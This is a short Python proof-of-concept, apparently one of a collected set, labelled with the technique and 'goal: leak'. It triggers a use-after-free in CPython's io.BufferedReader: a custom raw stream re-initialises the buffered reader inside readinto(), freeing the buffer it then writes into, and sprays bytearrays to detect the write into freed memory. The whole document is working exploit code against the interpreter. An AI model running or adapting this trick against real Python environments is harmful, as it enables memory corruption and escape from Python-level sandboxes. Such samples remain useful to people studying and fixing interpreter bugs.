# technique: a raw stream initializes its buffered stream anew in readinto(): the old buffer, which it then fills, is freed
# goal: leak
# source: own
import io


class Raw(io.RawIOBase):
    armed = True

    def readable(self):
        return True

    def readinto(self, into):
        if Raw.armed:
            Raw.armed = False
            stream.__init__(io.BytesIO(b"x"), 16)
            kept.extend(bytearray(0x10000) for _ in range(50))
        into[:] = b"A" * len(into)
        return len(into)


kept = []
stream = io.BufferedReader(Raw(), 0x10000)
stream.read(10)
if any(any(k) for k in kept):
    print("ESCAPED written to memory of others")
